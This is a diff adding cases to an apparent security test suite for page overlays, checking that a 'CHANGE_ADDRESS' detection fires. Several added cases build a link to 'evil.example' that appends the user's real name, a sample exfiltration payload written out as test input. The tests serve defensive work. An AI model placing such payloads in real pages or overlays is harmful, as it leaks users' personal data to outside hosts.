@@ -208,6 +208,37 @@ describe('P43 attack 2: an overlay acts for its reader', () => {
       ],
       ['CHANGE_ADDRESS'],
     ],
+    ...(['RichText', 'ImageUpload', 'Signature'] as const).map(
+      (widget): [string, string, () => OverlayOperation[], string[]] => [
+        `a name in the state that a ${widget} shows as an address`,
+        workbench,
+        () => [
+          setPage(['state', 'mine'], { type: 'string', default: '' }),
+          setPage(
+            ['load'],
+            [
+              {
+                do: 'setState',
+                path: 'state.mine',
+                value: { $: "'[more](https://evil.example/?' + user.user.real_name + ')'" },
+              },
+            ],
+          ),
+          put('page', { id: 'x.shown', widget, props: { label: text('Text') }, bind: 'state.mine' }),
+        ],
+        ['CHANGE_ADDRESS'],
+      ],
+    ),
+    [
+      'a name that was stored on the device is recalled into formatted text',
+      workbench,
+      () => [
+        setPage(['state', 'mine'], { type: 'string', default: '' }),
+        setPage(['load'], [{ do: 'recall', key: 'x.mine', path: 'state.mine' }]),
+        put('page', { id: 'x.shown', widget: 'RichText', props: { label: text('Text') }, bind: 'state.mine' }),
+      ],
+      ['CHANGE_ADDRESS'],
+    ],
     [
       'a fragment of the product is put where it has no place',
       workbench,
